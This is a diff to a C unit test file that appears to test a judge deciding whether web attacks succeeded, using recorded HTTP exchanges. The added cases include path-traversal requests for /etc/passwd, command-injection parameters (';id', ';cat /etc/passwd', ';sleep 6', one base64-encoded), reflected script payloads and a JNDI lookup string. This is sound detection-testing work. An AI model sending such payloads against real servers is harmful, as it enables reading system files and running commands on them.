@@ -177,7 +177,27 @@ static const struct web {
         "/?x=${jndi:ldap://198.51.100.9/a}", 404, "no"),
     ST_("a look-up that a filter kept off", YG_FAILED, YG_M_DENIED,
         "/?x=${jndi:ldap://198.51.100.9/a}", 403, "no"),
-    OK_("harmless", YG_UNDECIDED, YG_M_ORDINARY, "/index.html", PAGE("Welcome")),
+    OK_("traversal under one encoding", YG_SUCCEEDED, YG_M_FILE_CONTENT,
+        "/p?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd", PASSWD),
+    OK_("traversal under two encodings", YG_SUCCEEDED, YG_M_FILE_CONTENT,
+        "/p?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", PASSWD),
+    OK_("a command under base64", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT,
+        "/p?h=OyBjYXQgL2V0Yy9wYXNzd2QgIw%3d%3d", PASSWD),
+    OK_("script under encodings, escaped", YG_FAILED, YG_M_ESCAPED,
+        "/s?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
+        PAGE("Results for &lt;script&gt;alert(1)&lt;/script&gt;")),
+    OK_("script under encodings, as it is", YG_SUCCEEDED, YG_M_REFLECTED,
+        "/s?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
+        PAGE("Results for <script>alert(1)</script>")),
+    OK_("output in JSON", YG_SUCCEEDED, YG_M_COMMAND_OUTPUT, "/p?h=%3Bid",
+        "{\"out\":\"uid=33(www-data) gid=33(www-data)\\n\"}"),
+    OK_("file and command in one question: the command need not show", YG_UNDECIDED,
+        YG_M_ORDINARY, "/p?h=%3Bcat+/etc/passwd", PAGE("done")),
+    OK_("tag in a parameter, escaped", YG_FAILED, YG_M_ESCAPED,
+        "/s?q=<b title=x>bold</b>", PAGE("&lt;b title=x&gt;bold&lt;/b&gt;")),
+    { "as late as the command asked", { .target = "/p?h=;sleep 6", .status = 200,
+                                        .answer = PAGE("done") }, YG_SUCCEEDED, YG_M_DELAYED, 6.1 },
+OK_("harmless", YG_UNDECIDED, YG_M_ORDINARY, "/index.html", PAGE("Welcome")),
 #undef OK_
 #undef ST_
 };
@@ -209,10 +229,33 @@ static void one_question(void **state)
     assert_int_equal(wrong, 0);
 }
 
+/* What stands in the answer to a harmless question, too, was not got by the attack. */
+static void what_was_there_anyway(void **state)
+{
+    static const struct http_case ask[] = {
+        { .target = "/blog", .status = 200, .answer = PAGE("uid=0(root) gid=0(root)") },
+        { .target = "/blog?p=;id",
+          .status = 200,
+          .answer = PAGE("uid=0(root) gid=0(root)") },
+    };
+
+    (void)state;
+    for (size_t first = 0; first < 2; first++) {
+        struct scene *s = scene_new();
+        struct yg_talk *t = scene_talk(s, ATTACKER, VICTIM, 80, 0);
+        for (size_t i = first; i < 2; i++)
+            scene_http(s, t, &ask[i], (double)i, 0.1);
+        struct yg_outcome o = judge(s, 0, 0);
+        assert_int_equal(o.success, first ? YG_SUCCEEDED : YG_UNDECIDED);
+        scene_free(s);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(one_question),
+        cmocka_unit_test(what_was_there_anyway),
     };
 
     cmocka_set_message_output(CM_OUTPUT_TAP);
